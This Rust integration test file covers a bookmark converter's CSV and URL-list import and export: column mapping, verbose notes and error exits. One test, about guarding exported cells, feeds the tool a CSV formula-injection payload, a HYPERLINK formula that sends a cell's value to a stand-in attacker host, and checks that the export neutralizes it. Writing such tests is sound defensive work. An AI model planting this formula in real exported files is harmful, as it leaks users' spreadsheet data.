//! Generic CSV and URL lists from the command line: `--from csv`,
//! `--csv-map`, `-v` saying which column became which field, `--to csv`
//! and `--to urls`.

use std::path::Path;

use predicates::prelude::*;

mod common;

use common::markport;

fn write(dir: &Path, name: &str, text: &str) -> std::path::PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p
}

fn json(out: &[u8]) -> serde_json::Value {
    serde_json::from_slice(out).unwrap()
}

const EXPORT: &str = "Address,Label,Labels,Collection,Added,Stars\n\
    https://www.rust-lang.org/,Rust,lang|systems,Dev/Rust,1700000000,5\n\
    https://example.org/,Example,,,,\n";

#[test]
fn a_csv_is_detected_and_converted_with_its_folders_tags_and_extra_columns() {
    let dir = tempfile::tempdir().unwrap();
    let csv = write(
        dir.path(),
        "links.csv",
        "URL,Name,Tags,Folder\nhttps://a.example/,A,x;y,Top/Sub\n",
    );
    let out = markport()
        .arg("convert")
        .arg(&csv)
        .args(["--to", "json"])
        .assert()
        .success()
        .stderr(predicate::str::contains("csv -> json: nothing lost"))
        .get_output()
        .stdout
        .clone();
    let v = json(&out);
    let nodes = v["nodes"].as_array().unwrap();
    assert_eq!(nodes[0]["title"], "Top");
    assert_eq!(nodes[1]["title"], "Sub");
    assert_eq!(nodes[2]["href"], "https://a.example/");
    assert_eq!(nodes[2]["tags"], serde_json::json!(["x", "y"]));
}

#[test]
fn csv_map_names_the_columns_and_verbose_says_which_is_which() {
    let dir = tempfile::tempdir().unwrap();
    let csv = write(dir.path(), "export.csv", EXPORT);
    // Without a map there is no link column by any known name.
    markport()
        .args(["convert", "--from", "csv", "--to", "json"])
        .arg(&csv)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--csv-map url=COLUMN"));
    let out = markport()
        .args(["convert", "--from", "csv", "--to", "json", "-v"])
        .args(["--csv-map", "url=Address,title=Label"])
        .arg(&csv)
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "note: column 1 \"Address\" is url",
        ))
        .stderr(predicate::str::contains(
            "note: column 2 \"Label\" is title",
        ))
        .stderr(predicate::str::contains(
            "note: column 4 \"Collection\" is folder",
        ))
        .stderr(predicate::str::contains(
            "note: column 6 \"Stars\" is kept with each bookmark (bookmark.extra)",
        ))
        .get_output()
        .stdout
        .clone();
    let v = json(&out);
    let b = &v["nodes"][2];
    assert_eq!(b["href"], "https://www.rust-lang.org/");
    assert_eq!(b["title"], "Rust");
    assert_eq!(b["added"], "2023-11-14T22:13:20Z");
    assert_eq!(b["extra"][0]["name"], "Stars");
    // Without -v the mapping is not said.
    markport()
        .args(["convert", "--from", "csv", "--to", "json"])
        .args(["--csv-map", "url=Address"])
        .arg(&csv)
        .assert()
        .success()
        .stderr(predicate::str::contains("is url").not());
    // A map naming a column the header lacks: exit 2 with the position.
    markport()
        .args(["convert", "--from", "csv", "--to", "json"])
        .args(["--csv-map", "url=Nope"])
        .arg(&csv)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "export.csv:1:1: error: --csv-map url=Nope",
        ));
    markport()
        .args(["convert", "--from", "csv", "--csv-map", "url"])
        .arg(&csv)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("is not FIELD=COLUMN"));
}

#[test]
fn to_csv_writes_one_row_per_bookmark_and_reports_what_it_cannot_carry() {
    let dir = tempfile::tempdir().unwrap();
    let xbel = write(
        dir.path(),
        "in.xbel",
        r#"<?xml version="1.0"?>
<xbel version="1.0"><title>Mine</title>
<folder><title>Dev</title>
<bookmark href="https://www.rust-lang.org/" added="2024-01-02T03:04:05Z"><title>=Rust</title></bookmark>
<separator/>
</folder>
<folder><title>Empty</title></folder>
</xbel>"#,
    );
    let out = dir.path().join("out.csv");
    markport()
        .arg("-v")
        .arg("convert")
        .arg(&xbel)
        .arg("-o")
        .arg(&out)
        .assert()
        .success()
        .stderr(predicate::str::contains("lost separator on 1 node"))
        .stderr(predicate::str::contains("lost document.title"))
        .stderr(predicate::str::contains("lost folder on 1 node"));
    assert_eq!(
        std::fs::read_to_string(&out).unwrap(),
        "url,title,description,tags,folder,created,private,toread\n\
         https://www.rust-lang.org/,'=Rust,,,Dev,2024-01-02T03:04:05Z,,\n"
    );
    // Read back, the title is the title again.
    let back = markport()
        .arg("convert")
        .arg(&out)
        .args(["--to", "json"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    assert_eq!(json(&back)["nodes"][1]["title"], "=Rust");
}

#[test]
fn to_urls_and_back() {
    let dir = tempfile::tempdir().unwrap();
    let csv = write(dir.path(), "export.csv", EXPORT);
    let out = markport()
        .arg("-v")
        .args([
            "convert",
            "--to",
            "urls",
            "--csv-map",
            "url=Address,title=Label",
        ])
        .arg(&csv)
        .assert()
        .success()
        .stderr(predicate::str::contains("lost bookmark.tags on 1 node"))
        .stderr(predicate::str::contains("lost folder on 2 nodes"))
        .get_output()
        .stdout
        .clone();
    assert_eq!(
        String::from_utf8(out.clone()).unwrap(),
        "https://www.rust-lang.org/ Rust\nhttps://example.org/ Example\n"
    );
    let list = write(dir.path(), "links.txt", &String::from_utf8(out).unwrap());
    let back = markport()
        .arg("convert")
        .arg(&list)
        .args(["--to", "json", "-v"])
        .assert()
        .success()
        .stderr(predicate::str::contains(
            "as urls (detected from the content)",
        ))
        .get_output()
        .stdout
        .clone();
    assert_eq!(json(&back)["nodes"][1]["title"], "Example");
}

#[test]
fn a_broken_csv_is_exit_2_with_file_line_and_column() {
    let dir = tempfile::tempdir().unwrap();
    let csv = write(
        dir.path(),
        "broken.csv",
        "url,title\nhttps://a/,fine\nhttps://b/,\"never closed\n",
    );
    let out = dir.path().join("out.xbel");
    markport()
        .arg("convert")
        .arg(&csv)
        .arg("-o")
        .arg(&out)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "broken.csv:3:12: error: unclosed quote",
        ));
    assert!(!out.exists(), "nothing half-written");
}

#[test]
fn to_csv_guards_every_cell_and_says_so() {
    let dir = tempfile::tempdir().unwrap();
    // The issue's shape: an extra column, its header name and a `created`
    // kept as written, each a formula.
    let csv = write(
        dir.path(),
        "evil.csv",
        "url,title,created,=1+1\n\
         https://a/,A,=1+1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n",
    );
    let out = markport()
        .args(["convert", "--to", "csv"])
        .arg(&csv)
        .assert()
        .success()
        .stderr(predicate::str::contains("csv -> csv: nothing lost"))
        .stderr(predicate::str::contains(
            "csv -> csv: 2 field(s) written but not kept where the bookmarks go",
        ))
        .get_output()
        .stdout
        .clone();
    let text = String::from_utf8(out).unwrap();
    assert_eq!(
        text,
        "url,title,description,tags,folder,created,private,toread,'=1+1\n\
         https://a/,A,,,,'=1+1,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n"
    );
}

#[test]
fn csv_map_takes_one_column_for_two_fields_and_refuses_a_field_twice() {
    let dir = tempfile::tempdir().unwrap();
    let csv = write(dir.path(), "names.csv", "Name,Other\nhttps://a/,x\n");
    let out = markport()
        .args(["convert", "--from", "csv", "--to", "urls"])
        .args(["--csv-map", "url=Name,title=Name"])
        .arg(&csv)
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    assert_eq!(out, b"https://a/ https://a/\n");
    markport()
        .args(["convert", "--from", "csv", "--to", "urls"])
        .args(["--csv-map", "url=Name,url=Other"])
        .arg(&csv)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "--csv-map maps the field url twice (url=Name and url=Other)",
        ));
}

#[test]
fn to_urls_writes_a_title_with_a_line_break_on_its_line_and_names_it() {
    let dir = tempfile::tempdir().unwrap();
    let xbel = write(
        dir.path(),
        "in.xbel",
        r#"<?xml version="1.0"?>
<xbel version="1.0"><bookmark href="https://a/"><title>two&#10;lines</title></bookmark>
<bookmark href="https://b/"><title>B</title></bookmark></xbel>"#,
    );
    let out = markport()
        .arg("-v")
        .arg("convert")
        .arg(&xbel)
        .args(["--to", "urls"])
        .assert()
        .success()
        .stderr(predicate::str::contains("lost bookmark.title on 1 node"))
        .stderr(predicate::str::contains("lost bookmark on").not())
        .get_output()
        .stdout
        .clone();
    assert_eq!(out, b"https://a/ two lines\nhttps://b/ B\n");
}
